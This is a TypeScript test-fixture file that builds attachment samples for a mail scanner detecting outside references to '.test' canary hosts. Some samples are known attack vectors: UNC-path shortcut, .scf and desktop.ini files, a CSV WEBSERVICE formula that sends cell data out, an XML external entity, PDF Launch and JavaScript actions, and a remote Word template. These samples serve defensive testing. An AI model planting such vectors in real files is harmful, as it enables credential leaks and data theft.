/** What parts of mail name outside the mail: a row a way, with the load that must be found. Canaries are hosts under `.test`. */
import { gzipSync } from "node:zlib";
import {
  armored,
  writeCertificate,
  writePdf,
  writeShellLink,
  writeSignature,
  writeZip,
} from "../support/part-files.ts";

export interface PartRow {
  readonly name: string;
  readonly type: string;
  readonly file: string;
  readonly content: string | Buffer;
  /** `vector fires host`, one a load, in order. */
  readonly found: readonly string[];
}

/** Lines with the ends that RFC 5545 and 6350 ask for. */
function lines(...all: readonly string[]): string {
  return `${all.join("\r\n")}\r\n`;
}

function event(...properties: readonly string[]): string {
  return lines(
    "BEGIN:VCALENDAR",
    "VERSION:2.0",
    "METHOD:REQUEST",
    "BEGIN:VEVENT",
    ...properties,
    "END:VEVENT",
    "END:VCALENDAR",
  );
}

function calendar(name: string, found: string | readonly string[], ...properties: readonly string[]): PartRow {
  return {
    name: `calendar: ${name}`,
    type: "text/calendar",
    file: "a.ics",
    content: event(...properties),
    found: [found].flat(),
  };
}

function card(name: string, found: string | readonly string[], ...properties: readonly string[]): PartRow {
  const content = lines("BEGIN:VCARD", ...properties, "END:VCARD");
  return { name: `card: ${name}`, type: "text/vcard", file: "a.vcf", content, found: [found].flat() };
}

function file(name: string, content: string | Buffer, ...found: readonly string[]): PartRow {
  return { name, type: "application/octet-stream", file: name.split(" ")[0] ?? name, content, found };
}

const html = (host: string) => `<!DOCTYPE html><html><body><img src="https://${host}/p.gif"></body></html>`;
const relationships = (...rows: readonly string[]) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rows.join("")}</Relationships>`;
const relationship = (type: string, target: string, mode = ' TargetMode="External"') =>
  `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${mode}/>`;

function docx(rels: string, document = "<w:document/>"): Buffer {
  return writeZip([
    { name: "[Content_Types].xml", content: "<Types/>" },
    { name: "word/document.xml", content: document },
    { name: "word/_rels/document.xml.rels", content: rels },
  ]);
}

function odt(content: string): Buffer {
  return writeZip([
    { name: "mimetype", content: "application/vnd.oasis.opendocument.text" },
    {
      name: "content.xml",
      content: `<office:document-content xmlns:xlink="http://www.w3.org/1999/xlink">${content}</office:document-content>`,
    },
    { name: "META-INF/manifest.xml", content: "<manifest/>" },
  ]);
}

const keyServer = writeSignature([
  [2, "\x60\x00\x00\x00"],
  [24, "https://keys.pgp.test/lookup"],
]);
const URL_FILE = "[InternetShortcut]\r\nURL=https://url.test/a\r\nIconFile=\\\\icon.test\\s\\a.ico\r\nIconIndex=0\r\n";

export const calendarRows: readonly PartRow[] = [
  calendar("ATTACH", "RL-61 open attach.test", "ATTACH;FMTTYPE=application/pdf:https://attach.test/agenda.pdf"),
  calendar(
    "ATTACH in folds",
    "RL-61 open folded.test",
    "ATTACH;FMTTYPE=application/",
    " pdf:https://fol",
    "\tded.test/agenda.pdf",
  ),
  calendar(
    "ATTACH behind a quoted parameter",
    "RL-61 open quoted.test",
    'ATTACH;X-A="x:y;z";FMTTYPE=image/png:https://quoted.test/a',
  ),
  calendar("ATTACH in lower case", "RL-61 open lower.test", "attach:https://lower.test/a"),
  calendar("ATTACH on a share", "RL-61 open share.test", "ATTACH:file://share.test/s/a.pdf"),
  calendar(
    "IMAGE (RFC 7986)",
    "RL-61 open image.test",
    "IMAGE;VALUE=URI;DISPLAY=BADGE;FMTTYPE=image/png:https://image.test/a.png",
  ),
  calendar(
    "CONFERENCE (RFC 7986)",
    "RL-61 click conf.test",
    'CONFERENCE;VALUE=URI;FEATURE=VIDEO;LABEL="Join: now":https://conf.test/j',
  ),
  calendar("URL", "RL-61 click url.test", "URL:https://url.test/e"),
  calendar("SOURCE (RFC 7986)", "RL-61 open source.test", "SOURCE;VALUE=URI:https://source.test/c.ics"),
  calendar("TZURL", "RL-61 open tz.test", "TZURL:http://tz.test/zone.ics"),
  calendar("STRUCTURED-DATA (RFC 9073)", "RL-61 open data.test", "STRUCTURED-DATA;VALUE=URI:https://data.test/d.json"),
  calendar("ALTREP", "RL-61 open altrep.test", 'DESCRIPTION;ALTREP="https://altrep.test/d.html":See there'),
  calendar("DIR of an attendee", "RL-61 click dir.test", 'ATTENDEE;DIR="ldap://dir.test/cn=a":mailto:a@example.org'),
  calendar("ORGANIZER", "RL-61 click organiser.test", "ORGANIZER;CN=Ada:mailto:ada@organiser.test"),
  calendar(
    "SENT-BY",
    ["RL-61 click sentby.test", "RL-61 click organiser.test"],
    'ORGANIZER;SENT-BY="mailto:b@sentby.test":mailto:ada@organiser.test',
  ),
  calendar(
    "sound of an alarm",
    "RL-61 open alarm.test",
    "BEGIN:VALARM",
    "ACTION:AUDIO",
    "TRIGGER:-PT15M",
    "ATTACH;FMTTYPE=audio/basic:https://alarm.test/a.aud",
    "END:VALARM",
  ),
  calendar(
    "program of an alarm (RFC 2445)",
    "RL-61 open alarm.test",
    "BEGIN:VALARM",
    "ACTION:PROCEDURE",
    "ATTACH:file://alarm.test/s/a.exe",
    "END:VALARM",
  ),
  calendar("link in LOCATION", "RL-62 click location.test", "LOCATION:Room 2\\, https://location.test/room?a=1\\,2"),
  calendar("share in LOCATION", "RL-62 click location.test", "LOCATION:\\\\\\\\location.test\\\\rooms\\\\2"),
  calendar(
    "link in DESCRIPTION",
    "RL-62 click text.test",
    "DESCRIPTION:Hello\\n\\nJoin here: <https://text.test/j/1>.\\nBye",
  ),
  calendar("link in an unknown property", "RL-62 click teams.test", "X-MEETING-URL:https://teams.test/l/m"),
  calendar(
    "STYLED-DESCRIPTION (RFC 9073)",
    "RL-01 open styled.test",
    'STYLED-DESCRIPTION;VALUE=TEXT;FMTTYPE=text/html:<p>Hi<img src="https://styled.test/a.gif"></p>',
  ),
  calendar(
    "nothing outside",
    [],
    "UID:1@uid.test",
    "ATTENDEE;CN=B:mailto:b@example.org",
    "DESCRIPTION:See you at 10:30",
    "ATTACH:cid:a@example.org",
  ),
  calendar("nothing in data", [], "ATTACH;ENCODING=BASE64;VALUE=BINARY;FMTTYPE=image/png:aHR0cHM6Ly9iLnRlc3Q="),
  calendar(
    "page inside an attachment in the file itself",
    "RL-01 attachment page.test",
    `ATTACH;ENCODING=BASE64;VALUE=BINARY;FMTTYPE=text/html;FILENAME=a.html:${Buffer.from(html("page.test")).toString("base64")}`,
  ),
  {
    ...calendar("a task (VTODO)", "RL-61 open todo.test"),
    content: lines("BEGIN:VCALENDAR", "BEGIN:VTODO", "ATTACH:https://todo.test/a", "END:VTODO", "END:VCALENDAR"),
  },
  {
    ...calendar("a journal (VJOURNAL), LF", "RL-61 open journal.test"),
    content: "BEGIN:VCALENDAR\nBEGIN:VJOURNAL\nATTACH:https://jour\n nal.test/a\nEND:VJOURNAL\nEND:VCALENDAR\n",
  },
  {
    ...calendar("in UTF-16", "RL-61 open wide.test"),
    content: Buffer.from(`\ufeff${event("ATTACH:https://wide.test/a")}`, "utf16le"),
  },
  {
    ...calendar("told by its content", "RL-61 open plain.test", "ATTACH:https://plain.test/a"),
    type: "application/octet-stream",
    file: "a.dat",
  },
  {
    ...calendar("vCalendar 1.0", "RL-61 open old.test"),
    type: "text/x-vcalendar",
    content: lines(
      "BEGIN:VCALENDAR",
      "VERSION:1.0",
      "BEGIN:VEVENT",
      "ATTACH;ENCODING=QUOTED-PRINTABLE:https://old=",
      ".test/=61",
      "END:VEVENT",
      "END:VCALENDAR",
    ),
  },
];

export const cardRows: readonly PartRow[] = [
  card("PHOTO, vCard 4", "RL-63 attachment photo.test", "VERSION:4.0", "PHOTO:https://photo.test/a.jpg"),
  card("PHOTO, vCard 3", "RL-63 attachment photo.test", "VERSION:3.0", "PHOTO;VALUE=uri:https://photo.test/a.jpg"),
  card(
    "PHOTO, vCard 2.1",
    "RL-63 attachment photo.test",
    "VERSION:2.1",
    "PHOTO;VALUE=URL;GIF:https://photo.test/a.gif",
  ),
  card(
    "PHOTO in quoted-printable",
    "RL-63 attachment photo.test",
    "VERSION:2.1",
    "PHOTO;VALUE=URL;ENCODING=QUOTED-PRINTABLE:https://photo=",
    ".test/a=2Egif",
  ),
  card(
    "PHOTO in folds and a group",
    "RL-63 attachment photo.test",
    "VERSION:3.0",
    "item1.PHOTO;VALUE=uri:https://pho",
    " to.test/a.jpg",
  ),
  card("PHOTO on a share", "RL-63 attachment photo.test", "VERSION:4.0", "PHOTO:file://photo.test/s/a.jpg"),
  card("LOGO", "RL-63 attachment logo.test", "VERSION:4.0", "LOGO;MEDIATYPE=image/png:https://logo.test/a.png"),
  card("SOUND", "RL-63 attachment sound.test", "VERSION:4.0", "SOUND:https://sound.test/a.ogg"),
  card("KEY", "RL-63 attachment key.test", "VERSION:4.0", "KEY;MEDIATYPE=application/pgp-keys:ftp://key.test/a"),
  card("SOURCE", "RL-63 attachment source.test", "VERSION:4.0", "SOURCE:ldap://source.test/cn=a"),
  card(
    "FBURL, CALURI",
    ["RL-63 attachment fb.test", "RL-63 attachment cal.test"],
    "VERSION:4.0",
    "FBURL:https://fb.test/b",
    "CALURI:https://cal.test/c",
  ),
  card("URL", "RL-63 click url.test", "VERSION:3.0", "URL;TYPE=WORK:https\\://url.test/"),
  card("link in NOTE", "RL-63 click note.test", "VERSION:3.0", "NOTE:see https://note.test/n"),
  card(
    "nothing outside",
    [],
    "VERSION:3.0",
    "FN:Ada Marsh",
    "EMAIL:ada@example.org",
    "PHOTO;ENCODING=b;TYPE=JPEG:aHR0cHM6Ly9i",
  ),
];

export const signatureRows: readonly PartRow[] = [
  {
    name: "S/MIME: issuer, OCSP and CRL",
    type: "application/pkcs7-signature",
    file: "smime.p7s",
    content: writeCertificate({
      ocsp: "http://ocsp.test/",
      issuers: "http://aia.test/ca.crt",
      crl: "ldap://crl.test/cn=a",
    }),
    found: ["RL-64 open ocsp.test", "RL-64 open aia.test", "RL-64 open crl.test"],
  },
  {
    name: "S/MIME: a name of the holder is no look-up",
    type: "application/x-pkcs7-signature",
    file: "smime.p7s",
    content: writeCertificate({ alternativeName: "http://holder.test/" }),
    found: [],
  },
  file("smime.bin told by its content", writeCertificate({ issuers: "http://aia.test/ca.crt" }), "RL-64 open aia.test"),
  file("ca.crt as it is", writeCertificate({ crl: "http://crl.test/a.crl" }, false), "RL-64 open crl.test"),
  file(
    "ca.pem in PEM",
    `-----BEGIN CERTIFICATE-----\n${writeCertificate({ issuers: "http://aia.test/a" }, false).toString("base64")}\n-----END CERTIFICATE-----\n`,
    "RL-64 open aia.test",
  ),
  {
    name: "OpenPGP: key server of a signature",
    type: "application/pgp-signature",
    file: "signature.asc",
    content: armored(keyServer),
    found: ["RL-47 open keys.pgp.test"],
  },
  {
    name: "OpenPGP: not armoured",
    type: "application/pgp-signature",
    file: "signature.sig",
    content: keyServer,
    found: ["RL-47 open keys.pgp.test"],
  },
  {
    name: "OpenPGP: a key",
    type: "application/pgp-keys",
    file: "key.asc",
    content: armored(keyServer, "PUBLIC KEY BLOCK"),
    found: ["RL-47 open keys.pgp.test"],
  },
  {
    name: "OpenPGP: a signature in a text",
    type: "text/plain",
    file: "a.txt",
    content: `-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\nHello\n${armored(keyServer)}`,
    found: ["RL-47 open keys.pgp.test"],
  },
  {
    name: "OpenPGP: policy and note",
    type: "application/pgp-signature",
    file: "signature.asc",
    content: armored(
      writeSignature([
        [26, "https://policy.test/p"],
        [20, "\x80\0\0\0\0\x01\0\x10phttps://note.test/"],
      ]),
    ),
    found: ["RL-47 click policy.test", "RL-47 click note.test"],
  },
];

export const fileRows: readonly PartRow[] = [
  file("a.url", URL_FILE, "RL-70 attachment url.test", "RL-70 attachment icon.test"),
  file(
    "b.url in UTF-16",
    Buffer.from(`\ufeff${URL_FILE}`, "utf16le"),
    "RL-70 attachment url.test",
    "RL-70 attachment icon.test",
  ),
  file("invoice.pdf that is a web shortcut", URL_FILE, "RL-70 attachment url.test", "RL-70 attachment icon.test"),
  file(
    "a.scf",
    "[Shell]\r\nCommand=2\r\nIconFile=\\\\scf.test\\s\\a.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n",
    "RL-70 attachment scf.test",
  ),
  file("desktop.ini", "[.ShellClassInfo]\r\nIconResource=\\\\ini.test\\s\\a.dll,0\r\n", "RL-70 attachment ini.test"),
  file(
    "a.theme",
    "[Theme]\r\nBrandImage=\\\\brand.test\\s\\a.png\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\wall.test\\s\\a.jpg\r\n",
    "RL-70 attachment brand.test",
    "RL-70 attachment wall.test",
  ),
  file(
    "a.library-ms",
    '<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\lib.test\\share</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>',
    "RL-70 attachment lib.test",
  ),
  file(
    "a.searchConnector-ms",
    '<?xml version="1.0"?><searchConnectorDescription><iconReference>\\\\icon.test\\s,1</iconReference><simpleLocation><url>https://dav.test/x?a=1&amp;b=2</url></simpleLocation></searchConnectorDescription>',
    "RL-70 attachment icon.test",
    "RL-70 attachment dav.test",
  ),
  file(
    "a.lnk",
    writeShellLink("\\\\target.test\\s\\a.exe", "\\\\icon.test\\s\\a.ico"),
    "RL-70 attachment target.test",
    "RL-70 attachment icon.test",
  ),
  file("a.m3u", "#EXTM3U\n#EXTINF:1,a\nhttps://play.test/a.mp3\n", "RL-70 attachment play.test"),
  file(
    "a.asx",
    '<asx version="3.0"><entry><ref href="\\\\asx.test\\s\\a.wma"/></entry></asx>',
    "RL-70 attachment asx.test",
  ),
  file("a.rdp", "screen mode id:i:2\r\nfull address:s:rdp.test\r\n", "RL-70 attachment rdp.test"),
  file("a.iqy", "WEB\r\n1\r\nhttps://iqy.test/q?id=1\r\n", "RL-74 attachment iqy.test"),
  file("a.slk", 'ID;PWXL;N;E\r\nC;Y1;X1;K0;EWEBSERVICE("https://slk.test/a")\r\nE\r\n', "RL-74 attachment slk.test"),
  file("a.csv", 'name,x\r\nAda,"=WEBSERVICE(""https://csv.test/?a=""&A1)"\r\n', "RL-74 attachment csv.test"),
  file("b.csv without formulas", "name,site\r\nAda,https://www.example.org/\r\n"),
  file(
    "a.xml with a style sheet",
    '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://xsl.test/a.xsl"?><a/>',
    "RL-75 attachment xsl.test",
  ),
  file(
    "b.xml with an entity",
    '<?xml version="1.0"?><!DOCTYPE a SYSTEM "https://dtd.test/a.dtd" [<!ENTITY e SYSTEM "https://ent.test/e">]><a>&e;</a>',
    "RL-75 attachment dtd.test",
    "RL-75 attachment ent.test",
  ),
  file(
    "c.xml, an Office document in one file",
    `<?xml version="1.0"?><pkg:package>${relationships(relationship("image", "https://flat.test/a.png"))}</pkg:package>`,
    "RL-71 attachment flat.test",
  ),
  file(
    "d.xml that names formats only",
    '<?xml version="1.0"?><a xmlns="http://www.w3.org/1999/xhtml" href="https://www.example.org/"/>',
  ),
  file("a.rtf", '{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "https://rtf.test/a.png"}}}', "RL-68 attachment rtf.test"),
  file(
    "a.docx with a template",
    docx(relationships(relationship("attachedTemplate", "https://template.test/a.dotm"))),
    "RL-71 attachment template.test",
  ),
  file(
    "b.docx with a picture",
    docx(relationships(relationship("image", "https://picture.test/a.png?x=1&amp;y=2"))),
    "RL-71 attachment picture.test",
  ),
  file(
    "c.docx with an object and a frame",
    docx(
      relationships(
        relationship("oleObject", "file:///\\\\ole.test\\s\\a.docx"),
        relationship("frame", "https://frame.test/"),
      ),
    ),
    "RL-71 attachment ole.test",
    "RL-71 attachment frame.test",
  ),
  file(
    "d.docx with links",
    docx(
      relationships(
        relationship("hyperlink", "https://www.example.org/"),
        relationship("hyperlink", "\\\\link.test\\s"),
        relationship("image", "media/a.png", ""),
      ),
    ),
    "RL-71 click link.test",
  ),
  file(
    "e.docx with a field",
    docx(
      relationships(),
      '<w:instrText xml:space="preserve"> INCLUDEPICT</w:instrText><w:instrText>URE &quot;https://field.test/a.png&quot; \\d </w:instrText><w:fldChar w:fldCharType="end"/>',
    ),
    "RL-71 attachment field.test",
  ),
  file(
    "a.xlsx with a function",
    writeZip([
      { name: "[Content_Types].xml", content: "<Types/>" },
      { name: "xl/worksheets/sheet1.xml", content: '<f>_xlfn.WEBSERVICE("https://fn.test/a")</f>' },
      { name: "xl/connections.xml", content: '<webPr url="https://web.test/q"/>' },
    ]),
    "RL-71 attachment fn.test",
    "RL-71 attachment web.test",
  ),
  file(
    "a.odt",
    odt(
      '<draw:image xlink:href="https://odf.test/a.png"/><text:a xlink:href="https://www.example.org/">x</text:a><draw:image xlink:href="Pictures/a.png"/>',
    ),
    "RL-72 attachment odf.test",
  ),
  file(
    "b.odt with a section",
    odt('<text:section-source xlink:href="file://section.test/s/a.odt"/>'),
    "RL-72 attachment section.test",
  ),
  file(
    "a.pdf with a link",
    writePdf(["<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://link.test/a\\(1\\)) >> >>"]),
    "RL-73 click link.test",
  ),
  file(
    "b.pdf that opens by itself",
    writePdf(["<< /Type /Catalog /OpenAction << /S /URI /URI (https://auto.test/) >> >>"]),
    "RL-73 attachment auto.test",
  ),
  file(
    "j.pdf that opens by itself, by number",
    writePdf(["<< /Type /Catalog /OpenAction 2 0 R >>", "<< /S /URI /URI (https://number.test/) >>"]),
    "RL-73 attachment number.test",
  ),
  file(
    "c.pdf in an object stream",
    writePdf([], ["<< /Type /Catalog /OpenAction << /S /URI /URI <68747470733A2F2F6865782E746573742F> >> >>"]),
    "RL-73 attachment hex.test",
  ),
  file(
    "d.pdf on a share",
    writePdf(["<< /Type /Catalog /AA << /O << /S /GoToE /F (\\\\\\\\share.test\\\\s) /D [0 /Fit] >> >> >>"]),
    "RL-73 attachment share.test",
  ),
  file(
    "e.pdf that sends a form",
    writePdf(["<< /OpenAction << /S /SubmitForm /F << /FS /URL /F (https://form.test/s) >> >> >>"]),
    "RL-73 attachment form.test",
  ),
  file(
    "f.pdf that starts a file",
    writePdf(["<< /OpenAction << /S /Launch /F (\\\\\\\\launch.test\\\\s\\\\a.exe) >> >>"]),
    "RL-73 attachment launch.test",
  ),
  file(
    "g.pdf with spelt names",
    writePdf(["<< /Type /Catalog /Open#41ction << /S /#55RI /U#52I (https://spelt.test/) >> >>"]),
    "RL-73 attachment spelt.test",
  ),
  file(
    "h.pdf with a program",
    writePdf(['<< /OpenAction << /S /JavaScript /JS (app.launchURL\\("https://js.test/a", true\\)) >> >>']),
    "RL-73 attachment js.test",
  ),
  file("i.pdf with nothing", writePdf(["<< /Type /Catalog /Pages 2 0 R >>"])),
];

export const packedRows: readonly PartRow[] = [
  file(
    "a.zip around a shortcut",
    writeZip([{ name: "docs/a.url", content: URL_FILE }]),
    "RL-70 attachment url.test",
    "RL-70 attachment icon.test",
  ),
  file(
    "b.zip stored, without a directory",
    writeZip([{ name: "a.url", content: URL_FILE }], { isStored: true, isCut: true }),
    "RL-70 attachment url.test",
    "RL-70 attachment icon.test",
  ),
  file("c.zip around a page", writeZip([{ name: "a.html", content: html("page.test") }]), "RL-01 attachment page.test"),
  file(
    "d.zip around a drawing",
    writeZip([
      {
        name: "a.svg",
        content: '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://svg.test/a.png"/></svg>',
      },
    ]),
    "RL-19 attachment svg.test",
  ),
  file(
    "e.zip around a zip around a document",
    writeZip([
      {
        name: "b.zip",
        content: writeZip([
          {
            name: "a.docx",
            content: docx(relationships(relationship("attachedTemplate", "https://deep.test/a.dotm"))),
          },
        ]),
      },
    ]),
    "RL-71 attachment deep.test",
  ),
  file(
    "f.zip around a calendar",
    writeZip([{ name: "a.ics", content: event("ATTACH:https://cal.test/a") }]),
    "RL-61 attachment cal.test",
  ),
  file(
    "g.zip around a mail",
    writeZip([{ name: "a.eml", content: `Content-Type: text/html\r\n\r\n${html("mail.test")}` }]),
    "RL-01 attachment mail.test",
  ),
  file(
    "h.zip around rich text",
    writeZip([{ name: "a.doc", content: '{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "https://rtf.test/a.png"}}}' }]),
    "RL-68 attachment rtf.test",
  ),
  file(
    "a.pdf.gz",
    gzipSync(writePdf(["<< /OpenAction << /S /URI /URI (https://gz.test/) >> >>"])),
    "RL-73 attachment gz.test",
  ),
];
